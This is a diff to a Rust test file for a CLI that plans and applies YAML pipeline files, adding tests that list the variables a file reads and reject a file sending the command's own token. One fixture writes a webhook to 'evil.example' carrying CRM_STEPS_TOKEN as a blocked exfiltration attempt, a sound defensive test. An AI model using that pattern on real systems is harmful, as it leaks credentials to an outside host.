@@ -208,6 +208,7 @@ async fn plans_are_printed_as_json(app: App) {
             {
               "file": "a.yaml",
               "key": "a",
+              "variables": [],
               "plan": {
                 "isEmpty": false,
                 "revision": 0,
@@ -273,6 +274,7 @@ async fn plans_are_printed_as_json(app: App) {
             {
               "file": "b.yaml",
               "key": null,
+              "variables": [],
               "plan": null,
               "findings": [
                 {
@@ -307,6 +309,41 @@ async fn variables_are_filled_in(app: App) {
     assert_eq!(stored["crmSteps"]["nodes"][0]["webhookHeader"], json!({ "X": "secret-${TWO}" }));
 }
 
+async fn a_plan_names_the_variables_that_a_file_reads(app: App) {
+    let ana = app.member_of("A").await;
+    let shell = Shell::new(&app, &ana).await;
+    let headers = "{ X: \"${ONE}${TWO}${ONE}\", Y: a, Z: \"${ONE}\" }";
+    shell.write("a.yaml", &format!("name: A\nsteps:\n  - {{ name: B, prompt: b, webhookUrl: https://example.com/, webhookHeader: {headers} }}\n"));
+    let run = |arguments: &[&str]| {
+        let mut command = shell.command(arguments);
+        command.env("ONE", "secret").env("TWO", "hidden");
+        text(&output(command).stdout)
+    };
+    let line = "  variables: ONE (steps[0].webhookHeader[X]), TWO (steps[0].webhookHeader[X]), \
+                ONE (steps[0].webhookHeader[Z])";
+    assert_eq!(run(&["plan", "a.yaml"]).lines().nth(1), Some(line));
+    assert_eq!(run(&["apply", "--yes", "a.yaml"]).lines().nth(1), Some(line));
+    let json = run(&["plan", "--json", "a.yaml"]);
+    assert!(!json.contains("secret") && !json.contains("hidden"), "{json}");
+    let json: Value = serde_json::from_str(&json).expect("JSON");
+    assert_eq!(
+        json["pipelines"][0]["variables"][1],
+        json!({ "name": "TWO", "field": "steps[0].webhookHeader[X]" })
+    );
+}
+
+async fn a_file_cannot_send_the_token_of_the_command(app: App) {
+    let ana = app.member_of("A").await;
+    let shell = Shell::new(&app, &ana).await;
+    shell.write("a.yaml", "name: A\nsteps:\n  - { name: B, prompt: b, webhookUrl: https://evil.example/, webhookHeader: { X: \"${CRM_STEPS_TOKEN}\" } }\n");
+    let before = app.contents().await;
+    let message = "a.yaml:3:82: error: steps[0].webhookHeader[X] reads CRM_STEPS_TOKEN, the token of the \
+                   command itself, which no file may send anywhere; use another variable. [INVALID_FILE]\n";
+    assert_eq!(shell.all(&["plan", "a.yaml"]), format!("{message}exit status 1"));
+    assert!(shell.all(&["apply", "--yes", "a.yaml"]).starts_with(message));
+    assert_eq!(app.contents().await, before);
+}
+
 async fn names_cannot_write_to_the_terminal(app: App) {
     let ana = app.member_of("A").await;
     let shell = Shell::new(&app, &ana).await;
@@ -325,5 +362,7 @@ on_both_databases!(
     violations_have_their_places_in_the_files,
     plans_are_printed_as_json,
     variables_are_filled_in,
+    a_plan_names_the_variables_that_a_file_reads,
+    a_file_cannot_send_the_token_of_the_command,
     names_cannot_write_to_the_terminal,
 );
